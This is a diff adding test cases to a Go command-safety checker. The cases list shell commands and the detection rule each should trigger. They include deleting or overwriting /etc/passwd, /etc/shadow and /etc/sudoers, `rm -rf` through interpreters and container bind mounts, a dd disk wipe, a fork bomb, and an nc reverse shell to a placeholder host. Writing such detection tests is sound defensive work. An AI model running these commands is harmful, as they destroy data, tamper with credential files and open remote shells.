@@ -342,6 +342,12 @@ var checkCases = []checkCase{
 	{cmd: "awk 'BEGIN{\"rm -rf /\" | getline}'", rule: rDel},
 	{cmd: "python3 <<'EOF'\nimport shutil\nshutil.rmtree('/etc')\nEOF", rule: rDel},
 	{cmd: "echo 'import os; os.system(\"rm -rf /\")' | python3", rule: rDel},
+	{cmd: "python3 -c 'import os; os.remove(\"/etc/passwd\")'", rule: rCrit},
+	{cmd: "perl -e 'unlink \"/etc/passwd\"'", rule: rCrit},
+	{cmd: "python3 -c 'open(\"/etc/shadow\",\"w\").write(\"x\")'", rule: rCrit},
+	{cmd: "node -e 'fs.writeFileSync(\"/etc/sudoers\", \"x\")'", rule: rCrit},
+	{cmd: "python3 -c 'print(open(\"/etc/passwd\").read())'"},
+	{cmd: "python3 -c 'f=open(\"out.txt\",\"w\"); f.write(\"/etc/passwd\")'"},
 
 	// Every nesting form.
 	{cmd: "ls\nrm -rf /", rule: rDel},
@@ -739,6 +745,14 @@ var checkCases = []checkCase{
 	{cmd: "socat TCP-LISTEN:8080,fork TCP:localhost:80"},
 	{cmd: "nc -zv host 443"},
 	{cmd: "mkfifo /tmp/f; nc host 4444 < /tmp/f | /bin/sh -i > /tmp/f", rule: rRemote},
+
+	{cmd: "docker run -v /:/host alpine rm -rf /host", rule: rDel},
+	{cmd: "docker run --rm -v /etc:/mnt/etc alpine sh -c 'echo x > /mnt/etc/passwd'", rule: rCrit},
+	{cmd: "podman run --mount type=bind,source=/,target=/h img rm -rf /h/usr", rule: rDel},
+	{cmd: "docker run -v /:/host:ro alpine rm -rf /host"},
+	{cmd: "docker run --rm -v $(pwd):/src golang go build ./..."},
+	{cmd: "docker run --rm alpine rm -rf /tmp/x"},
+	{cmd: "docker run --privileged --device /dev/sda img dd if=/dev/zero of=/dev/sda", rule: rDevW},
 
 	// fork-bomb.
 	{cmd: ":(){ :|:& };:", rule: rBomb},
